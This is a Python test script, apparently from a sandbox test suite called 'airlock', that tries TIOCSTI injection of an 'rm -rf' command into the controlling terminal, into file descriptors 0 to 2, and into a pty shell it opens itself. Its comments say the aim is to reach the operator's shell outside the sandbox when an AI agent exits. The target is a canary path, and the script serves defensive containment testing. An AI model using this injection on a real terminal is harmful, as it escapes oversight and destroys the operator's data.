#!/usr/bin/python3
# attack: airlock: TIOCSTI "rm -rf $CANARY" into a terminal's input: its controlling tty if it has one, else a shell on a pty of its own
# stopped by: namespaces(/dev/tty), seccomp(TIOCSTI)
# The real target is the operator's terminal: text pushed into its input queue is run by the
# operator's shell once the agent exits, outside any sandbox. Airlock runs the agent in its own
# session (no controlling terminal: /dev/tty gives ENXIO) and its seccomp filter refuses TIOCSTI
# and TIOCLINUX. Under the suite stdin is /dev/null, so there is no operator terminal to reach;
# to make the bare run do damage the attack opens a pty, starts a shell reading its slave side,
# and injects into that slave with TIOCSTI (not by writing the master, which would be ordinary
# typing): the injection is what must fail inside the sandbox.
import errno, fcntl, os, pty, re, select, sys, termios, time

canary = os.environ["CANARY"]
command = f"/bin/rm -rf '{canary}'; echo injected-rm-exit=$?\n".encode()

def en(e):
    return errno.errorcode.get(e.errno, str(e))

def inject(fd, what):
    sent = 0
    for byte in command:
        try:
            fcntl.ioctl(fd, termios.TIOCSTI, bytes([byte]))
            sent += 1
        except OSError as e:
            print(f"ioctl({what}, TIOCSTI) -> {en(e)}")
            return False
    print(f"ioctl({what}, TIOCSTI) x{sent} -> OK")
    return True

# 1. The controlling terminal and any tty on 0-2 (the operator's, when run interactively).
for what in ["/dev/tty"] + [f"fd {fd}" for fd in (0, 1, 2)]:
    try:
        fd = os.open("/dev/tty", os.O_RDWR) if what == "/dev/tty" else int(what.split()[1])
    except OSError as e:
        print(f"open /dev/tty -> {en(e)}")
        continue
    if not os.isatty(fd):
        print(f"{what}: not a terminal")
        continue
    print(f"{what} is a terminal: injecting")
    inject(fd, what)

# 2. A shell on a pty of our own, reading its slave side.
master, slave = pty.openpty()
pid = os.fork()
if pid == 0:
    os.setsid()
    os.close(master)
    fcntl.ioctl(slave, termios.TIOCSCTTY, 0)
    for fd in (0, 1, 2):
        os.dup2(slave, fd)
    os.execv("/bin/sh", ["sh", "-i"])
time.sleep(0.3)
inject(slave, "pty slave")
output = b""
end = time.time() + 8
while time.time() < end and not re.search(rb"injected-rm-exit=[0-9]", output):
    ready, _, _ = select.select([master], [], [], 0.2)
    if ready:
        try:
            output += os.read(master, 4096)
        except OSError:
            break
os.kill(pid, 9)
os.waitpid(pid, 0)
sys.stdout.write(output.decode(errors="replace").replace("\r", "") + "\n")
print(f"canary {'still there' if os.path.exists(canary) else 'gone'}")
